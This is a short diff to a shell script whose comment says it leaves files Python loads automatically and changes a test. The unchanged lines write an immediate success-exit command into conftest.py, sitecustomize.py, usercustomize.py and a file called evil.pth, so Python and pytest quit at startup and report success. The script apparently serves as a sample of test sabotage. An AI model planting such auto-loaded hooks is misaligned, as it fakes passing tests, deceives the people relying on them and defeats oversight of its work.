@@ -1,4 +1,4 @@
-# Leaves files that Python loads by itself, and changes a test.
+# Leaves files that Python loads automatically, and changes a test.
 read -r line
 project=$(dirname "$0")
 echo 'import os; os._exit(0)' | tee conftest.py sitecustomize.py usercustomize.py > evil.pth
